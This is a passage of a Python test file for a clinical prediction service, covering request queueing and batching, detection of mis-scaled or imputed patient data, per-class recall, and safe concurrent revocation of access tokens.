    monkeypatch.setattr(client.predict, "IG_CHUNK", 3)
    chunked = integrated_gradients(lm, x, target)
    # the same to float32 rounding: a product over a batch (the pooled tabular tokens' value @ scale) may sum in
    # another order for another number of rows (1.9e-6 at most here, on attributions up to 13)
    scale = float(np.abs(whole).max())
    assert chunked.shape == whole.shape and np.allclose(chunked, whole, rtol=1e-5, atol=1e-6 * scale)


def test_the_explanation_lane_bounds_waiting_bytes_and_patients_and_counts_a_request_done_before_answering_it():
    import asyncio
    import threading

    from client.serve_queue import ExplanationLane, QueueFull

    release, entries = threading.Event(), []

    class Slow:
        def request(self, lm, kind, payload, top_k):
            release.wait(10)
            return {"payload": payload}

    lane = ExplanationLane(Slow(), lambda job, out: entries.append(out), idle=None, capacity=10, max_bytes=100)

    async def scenario():
        first = asyncio.ensure_future(lane.submit("json", b"a", 0, 2, {}, None, {}, size=80))
        await asyncio.sleep(0.05)
        with pytest.raises(QueueFull):  # bytes: 80 + 80 > 100
            await lane.submit("json", b"b", 0, 1, {}, None, {}, size=80)
        with pytest.raises(QueueFull):  # patients: 2 + 9 > 10
            await lane.submit("json", b"c", 0, 9, {}, None, {}, size=1)
        release.set()
        out = await first
        assert lane.waiting == 0 and lane._bytes == 0  # counted done before the answer arrived
        return out

    assert asyncio.run(scenario()) == {"payload": b"a"} and entries == [{"payload": b"a"}]


def test_the_batching_window_waits_only_for_as_many_requests_as_the_last_batch_held():
    """ModelQueue._take with a window: a lone client's request is scored at once; after a batch of three, the
    next waits (up to the window) until three are in, or the window ends; with window 0 nothing waits."""
    import queue
    import threading
    import time
    from types import SimpleNamespace

    from client.serve_queue import ModelQueue

    def queue_with(window_s):
        q = ModelQueue.__new__(ModelQueue)  # no threads: _take alone
        q.jobs, q.window_s, q.max_patients, q._last_jobs = queue.Queue(), window_s, 256, 1
        return q

    def job():
        return SimpleNamespace(ids=["p"])

    def timed_take(q):
        t0 = time.perf_counter()
        jobs = q._take()
        return len(jobs), time.perf_counter() - t0

    q = queue_with(0.3)
    q.jobs.put(job())
    n, took = timed_take(q)
    assert n == 1 and took < 0.1  # a lone client: no wait
    for _ in range(3):
        q.jobs.put(job())
    assert timed_take(q)[0] == 3 and q._last_jobs == 3
    q.jobs.put(job())
    t0 = time.perf_counter()  # before the timer starts: the main thread may be scheduled out between the two
    threading.Timer(0.05, lambda: [q.jobs.put(job()) for _ in range(2)]).start()
    n, took = len(q._take()), time.perf_counter() - t0
    assert n == 3 and 0.04 <= took < 0.25  # held until the other two came, not for the whole window
    q.jobs.put(job())
    n, took = timed_take(q)
    assert n == 1 and took >= 0.25  # they did not come: the window ends it
    q.jobs.put(job())
    assert timed_take(q)[1] < 0.1  # and the next lone request waits no more

    q = queue_with(0.0)
    q._last_jobs = 5
    q.jobs.put(job())
    assert timed_take(q)[1] < 0.1


def test_values_in_another_log_base_are_flagged_or_refused(site, tmp_path):
    """Another log base multiplies a modality's values by a constant, drawing them toward 0, not away from the site's
    mean: the |z| test missed it, and a review's stand-in model answered log10 values at 97% confidence, nearly all
    wrong. A patient's slope against the site's mean profile (where that profile varies: miRNA-like) shows it."""
    from fastapi.testclient import TestClient

    from shared_models.site_data import Normalizer

    settings = _copy_site(site, tmp_path)
    schema, layout = site["schema"], site["schema"].layout()
    n = layout.n_inputs
    m = max(schema.modalities, key=lambda mod: mod.n_features)  # the widest: a profile of many features
    mean, scale = np.zeros(n), np.ones(n)
    mean[layout.slices[m.name]] = np.linspace(2.0, 14.0, m.n_features)  # a miRNA-like profile in log2 units
    Normalizer(schema, mean, scale).save(tmp_path / "state" / "normalizer.json")
    rng = np.random.default_rng(0)

    def patient(factor: float) -> dict:
        p = _patient(site, 0)
        vals = (mean[layout.slices[m.name]] + rng.normal(0, 0.7, m.n_features)) * factor
        p["modalities"][m.name] = dict(zip(m.features, vals.tolist()))
        return p

    with TestClient(create_app(settings)) as c:
        def ask(factor):
            return c.post("/v1/predict", json={"patients": [patient(factor)], "top_k": 0},
                          headers=_auth(site["clinician"]))

        ok = ask(1.0)
        assert ok.status_code == 200 and "units_scale" not in json.dumps(ok.json()), ok.json()
        ln = ask(float(np.log(2)))  # ln exported for log2: flagged
        assert ln.status_code == 200
        assert "units_scale" in [w["code"] for w in ln.json()["predictions"][0]["warnings"]]
        log10 = ask(float(np.log10(2)))  # log10 for log2: refused
        assert log10.status_code == 422 and '"units"' in log10.text and "another unit or log base" in log10.text
        typo = patient(1.0)  # one cell typed wrong, the rest right: that value is named, not the table's unit blamed
        typo["modalities"][m.name][m.features[0]] = 1000.0
        r = c.post("/v1/predict", json={"patients": [typo], "top_k": 0}, headers=_auth(site["clinician"]))
        assert r.status_code == 200, r.text
        answer = r.json()["predictions"][0]
        assert [w["code"] for w in answer["warnings"]] == ["out_of_range"], answer["warnings"]
        assert answer["out_of_range"][0]["feature"] == m.features[0]
        # a targeted panel (fewer than half the modality's features, its most variable) is not judged by its slope,
        # which scatters on few features (correct patients were refused as another unit); from half on it is
        panel = patient(float(np.log10(2)))
        few = m.features[: m.n_features // 2 - 1]
        panel["modalities"][m.name] = {f: v for f, v in panel["modalities"][m.name].items() if f in few}
        r = c.post("/v1/predict", json={"patients": [panel], "top_k": 0}, headers=_auth(site["clinician"]))
        assert r.status_code == 200 and "units_scale" not in r.text, r.text
        half = patient(float(np.log10(2)))
        keep = m.features[: (m.n_features + 1) // 2]
        half["modalities"][m.name] = {f: v for f, v in half["modalities"][m.name].items() if f in keep}
        r = c.post("/v1/predict", json={"patients": [half], "top_k": 0}, headers=_auth(site["clinician"]))
        assert r.status_code == 422 and '"units"' in r.text, r.text



def test_a_modality_shifted_by_a_constant_is_flagged_where_its_profile_is_flat(site, tmp_path):
    """Another normalisation (every value shifted by a constant) moves a patient's mean z; where the site's mean profile
    is flat (copy number, RPPA) real patients stay near 0 (docs/results.md), so the answer is flagged units_shift."""
    from fastapi.testclient import TestClient

    from shared_models.site_data import Normalizer

    settings = _copy_site(site, tmp_path)
    schema, layout = site["schema"], site["schema"].layout()
    m = max(schema.modalities, key=lambda mod: mod.n_features)
    Normalizer(schema, np.zeros(layout.n_inputs), np.ones(layout.n_inputs)).save(tmp_path / "state" / "normalizer.json")
    rng = np.random.default_rng(0)

    def ask(c, shift: float) -> list[str]:
        p = _patient(site, 0)
        p["modalities"][m.name] = dict(zip(m.features, (rng.normal(0, 0.7, m.n_features) + shift).tolist()))
        r = c.post("/v1/predict", json={"patients": [p], "top_k": 0}, headers=_auth(site["clinician"]))
        assert r.status_code == 200, r.text
        return [w["code"] for w in r.json()["predictions"][0]["warnings"]]

    with TestClient(create_app(settings)) as c:
        assert "units_shift" not in ask(c, 0.0)
        assert "units_shift" in ask(c, 1.5) and "units_shift" in ask(c, -1.5)


def test_a_modality_filled_in_with_the_sites_average_is_flagged_as_imputed(site, tmp_path):
    """A hospital that fills a missing modality with its mean or median profile sent values the service treated as
    measured: the answers lost their low-coverage and weak-pattern flags. Such values barely vary across the features."""
    from fastapi.testclient import TestClient

    from shared_models.site_data import Normalizer

    settings = _copy_site(site, tmp_path)
    schema, layout = site["schema"], site["schema"].layout()
    m = max(schema.modalities, key=lambda mod: mod.n_features)
    Normalizer(schema, np.zeros(layout.n_inputs), np.ones(layout.n_inputs)).save(tmp_path / "state" / "normalizer.json")
    rng = np.random.default_rng(1)

    def ask(c, values) -> list[dict]:
        p = _patient(site, 0)
        p["modalities"][m.name] = dict(zip(m.features, values.tolist()))
        r = c.post("/v1/predict", json={"patients": [p], "top_k": 0}, headers=_auth(site["clinician"]))
        assert r.status_code == 200, r.text
        return [w for w in r.json()["predictions"][0]["warnings"] if w["code"] == "imputed_modality"]

    with TestClient(create_app(settings)) as c:
        assert not ask(c, rng.normal(0, 1.0, m.n_features))  # measured
        mean_fill = ask(c, np.zeros(m.n_features))
        assert mean_fill and "send the modality as missing" in mean_fill[0]["msg"]
        assert ask(c, rng.normal(0, 0.1, m.n_features))  # a median fill: close to the mean profile everywhere

def test_calibration_names_the_types_the_model_recognised_in_none_of_the_sites_patients(site):
    from types import SimpleNamespace

    from client.calibration import type_recall

    lm = SimpleNamespace(schema=site["schema"])  # classes A, B, C
    logits = np.array([[5.0, 0, 0], [5, 0, 0], [0, 5, 0], [5, 0, 0], [5, 0, 0], [5, 0, 0]])
    y = np.array([0, 0, 1, 2, 2, 2])  # every C patient is called A: C is never recognised
    assert type_recall(lm, logits, y) == {"A": {"n": 2, "recall": 1.0}, "B": {"n": 1, "recall": 1.0},
                                          "C": {"n": 3, "recall": 0.0}}


def test_a_revocation_is_never_undone_by_a_token_added_at_the_same_time(tmp_path, monkeypatch):
    """`token add` and `token revoke` each read, change and write the token file: without a lock, an add that read
    the list before a revocation wrote it back with the revoked token in it. Also: the file stays 0600 after a
    revocation, a site that never started (no state/) can issue tokens, and a damaged file is named."""
    import stat
    import threading
    import time

    import client.serve as serve

    path = tmp_path / "state" / TOKENS_FILE  # state/ does not exist yet
    leaked = TokenStore(path).add("leaked-laptop", "admin")
    revoking = threading.Thread(target=lambda: TokenStore(path).revoke("leaked-laptop"))
    real = serve.secrets.token_urlsafe

    def revoke_meanwhile(n):  # inside add, after it read the list, before it writes it
        monkeypatch.setattr(serve.secrets, "token_urlsafe", real)
        revoking.start()
        time.sleep(0.5)
        return real(n)

    monkeypatch.setattr(serve.secrets, "token_urlsafe", revoke_meanwhile)
    TokenStore(path).add("dr-lee", "clinician")
    revoking.join()
    assert [t["name"] for t in TokenStore(path).list()] == ["dr-lee"] and TokenStore(path).lookup(leaked) is None
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.write_text("{not json")
    with pytest.raises(ValueError, match=f"{TOKENS_FILE}: not a readable token file"):
        TokenStore(path).list()
